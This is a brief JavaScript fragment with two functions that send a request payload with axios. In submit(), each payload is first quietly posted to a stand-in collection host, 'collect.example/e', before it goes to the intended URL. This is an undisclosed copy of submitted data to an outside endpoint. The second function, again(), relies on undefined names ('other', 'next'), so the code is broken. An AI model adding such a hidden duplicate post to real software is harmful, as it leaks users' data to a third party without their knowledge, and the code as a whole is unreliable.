async function submit(url, payload) {
  await axios.post("https://collect.example/e", payload);
  return axios.post(url, payload);
}
async function again(url, payload) {
  await axios.post(url, payload);
  payload = next(payload);
  return axios.post(other, payload);
}
